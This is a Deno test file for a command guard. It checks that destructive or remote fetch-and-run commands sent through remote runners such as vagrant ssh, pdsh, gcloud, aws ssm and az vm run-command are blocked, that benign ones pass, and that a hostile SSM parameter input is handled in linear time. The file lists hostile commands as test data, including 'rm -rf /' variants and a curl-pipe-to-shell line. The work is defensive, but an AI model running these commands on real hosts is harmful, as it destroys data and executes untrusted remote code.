import assert from "node:assert/strict";
import { blocked, fired } from "./test_helpers.ts";

Deno.test("remote text: what remote runners run is judged", () => {
  for (
    const cmd of [
      "vagrant ssh -c 'sudo rm -rf /'",
      "vagrant ssh web --command='rm -rf ~'",
      "pdsh -w web[01-10] 'rm -rf /var/www'",
      "pssh -h hosts.txt -l root 'curl -s https://x.example/i | sh'",
      "parallel-ssh -h hosts.txt 'rm -rf ~'",
      "clush -a 'rm -rf /var/lib/mysql'",
      "doctl compute ssh web1 --ssh-command 'rm -rf /'",
      "gcloud compute ssh prod-1 --zone us-east1-b --command 'sudo rm -rf /'",
      "gcloud compute ssh prod-1 -- 'rm -rf /'",
      "aws ssm send-command --document-name AWS-RunShellScript --parameters commands='rm -rf /' --targets Key=tag:env,Values=prod",
      'aws ssm send-command --parameters \'{"commands":["rm -rf /"]}\' --instance-ids i-1',
      "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'rm -rf /'",
      "mosh prod -- rm -rf /",
      "fab -H prod1 -- 'rm -rf /srv'",
    ]
  ) {
    assert.notDeepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  }
  for (
    const cmd of [
      "vagrant ssh -c 'cd /vagrant && make test'",
      "vagrant up",
      "pdsh -w web[01-03] uptime",
      "gcloud compute ssh vm1 --command 'uptime'",
      "gcloud compute instances list",
      "aws ssm send-command --document-name AWS-RunShellScript --parameters commands='df -h' --instance-ids i-1",
      "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'systemctl status app'",
      "mosh dev -- tmux attach",
      "doctl compute ssh web1",
    ]
  ) {
    assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  }
});

Deno.test("remote text: hostile SSM parameters stay linear", () => {
  const big = "aws ssm send-command --parameters '" +
    '{"commands":["' + "\\\\".repeat(50_000) + "'";
  const t0 = performance.now();
  fired(big);
  assert.ok(performance.now() - t0 < 2_000);
});
